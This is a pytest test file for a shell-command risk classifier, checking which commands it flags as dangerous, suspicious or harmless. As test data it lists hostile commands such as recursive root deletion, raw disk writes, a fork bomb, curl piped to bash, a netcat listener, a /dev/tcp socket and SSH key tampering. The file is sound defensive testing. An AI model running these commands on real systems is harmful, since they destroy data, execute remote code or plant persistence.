"""Tests for the dangerous and suspicious command signatures."""
import pytest

from pakky_guard.core.risk_rules import (
    DANGEROUS_PATTERNS,
    SUSPICIOUS_PATTERNS,
    assess_command_risk,
    find_dangerous_pattern,
    find_suspicious_pattern,
)


@pytest.mark.parametrize(
    "command,name",
    [
        ("rm -rf /", "Recursive root deletion"),
        ("rm -rf ~", "Recursive root deletion"),
        ("rm -fr $HOME", "Recursive root deletion"),
        ("sudo rm -rf /usr", "Recursive root deletion"),
        ("dd if=/dev/zero of=/dev/sda bs=1M", "Raw disk write"),
        ("mkfs.ext4 /dev/sdb1", "Filesystem format"),
        ("diskutil eraseDisk JHFS+ Blank disk2", "Disk erase"),
        (":(){ :|:& };:", "Fork bomb"),
        ("curl -fsSL https://example.com/install.sh | bash", "Remote script execution"),
        ("wget -qO- http://x.io/s | sudo sh", "Remote script execution"),
        ("bash <(curl -s http://x.io/s)", "Remote script via process substitution"),
        ("echo $(whoami)", "Command substitution"),
        ("echo `id`", "Backtick substitution"),
        ("python3 -c 'import os'", "Inline interpreter"),
        ("perl -e 'print 1'", "Inline interpreter"),
        ('eval "$PAYLOAD"', "Eval/exec"),
        ("echo aGVsbG8= | base64 --decode", "Base64 decode"),
        ("xxd -r -p payload.hex", "Hex decode"),
        ("nc -l 4444", "Network relay"),
        ("cat < /dev/tcp/10.0.0.1/80", "Raw socket device"),
        ("chmod u+s /opt/tool", "Setuid/setgid bit"),
        ("chmod 4755 /opt/tool", "Setuid/setgid bit"),
        ("chown root /opt/tool", "Root ownership"),
        ("echo 127.0.0.1 evil >> /etc/hosts", "System directory write"),
        ("cp tool /usr/local/bin/tool", "System directory write"),
        ("echo 'export X=1' >> ~/.zshrc", "Shell profile or SSH write"),
        ("cat key.pub > authorized_keys", "SSH key tampering"),
        ("cp id.pub ~/.ssh/authorized_keys", "SSH key tampering"),
        ("crontab -l", "Scheduled task"),
        ("launchctl load ~/Library/LaunchAgents/x.plist", "Scheduled task"),
    ],
)
def test_dangerous(command, name):
    pattern = find_dangerous_pattern(command)
    assert pattern is not None
    assert pattern.name == name


def test_dangerous_is_case_insensitive():
    assert find_dangerous_pattern("CURL http://x.io/s | SH") is not None


@pytest.mark.parametrize(
    "command",
    [
        "echo hello",
        "ls -la",
        "rm -rf ./build",
        "rm -rf /tmp/pakky/cache",
        "npm install -g typescript",
        "brew install --cask visual-studio-code",
        "git clone https://github.com/user/repo.git",
        "mkdir -p ~/projects",
        "cd . && ls",
        "echo 'chat with us'",
        "brew install git && cat /etc/hosts",
        "cp a.txt b.txt; ls /usr/local/bin/",
        "cat ~/.ssh/authorized_keys",
        "grep ssh-rsa ~/.ssh/authorized_keys | wc -l",
    ],
)
def test_not_dangerous(command):
    assert find_dangerous_pattern(command) is None


@pytest.mark.parametrize(
    "command,name",
    [
        ("sudo apt-get update", "Privilege escalation"),
        ("curl -O https://example.com/file.zip", "Download"),
        ("git clone https://github.com/user/repo.git", "Repository clone"),
        ("gh repo clone user/repo", "Repository clone"),
        ("npm install -g typescript", "Package install"),
        ("pip install requests", "Package install"),
        ("brew install git", "Package install"),
        ("code --install-extension ms-python.python", "Package install"),
        ("export PATH=$PATH:/opt/bin", "Environment change"),
        ("unset HISTFILE", "Environment change"),
        ("alias ll='ls -la'", "Alias change"),
        ("source ~/.bashrc", "Script sourcing"),
        (". ~/.profile", "Script sourcing"),
    ],
)
def test_suspicious(command, name):
    pattern = find_suspicious_pattern(command)
    assert pattern is not None
    assert pattern.name == name


@pytest.mark.parametrize("command", ["echo hello", "ls -la", "npm run build", "cd . && ls", "mkdir build"])
def test_not_suspicious(command):
    assert find_suspicious_pattern(command) is None


def test_assess_command_risk():
    assert assess_command_risk("rm -rf /") == "critical"
    assert assess_command_risk("echo $(id)") == "high"
    assert assess_command_risk("npm install left-pad") == "medium"
    assert assess_command_risk("ls") == "low"


def test_pattern_lists_are_well_formed():
    for pattern in DANGEROUS_PATTERNS:
        assert pattern.severity in ("high", "critical")
    for pattern in SUSPICIOUS_PATTERNS:
        assert pattern.severity == "medium"
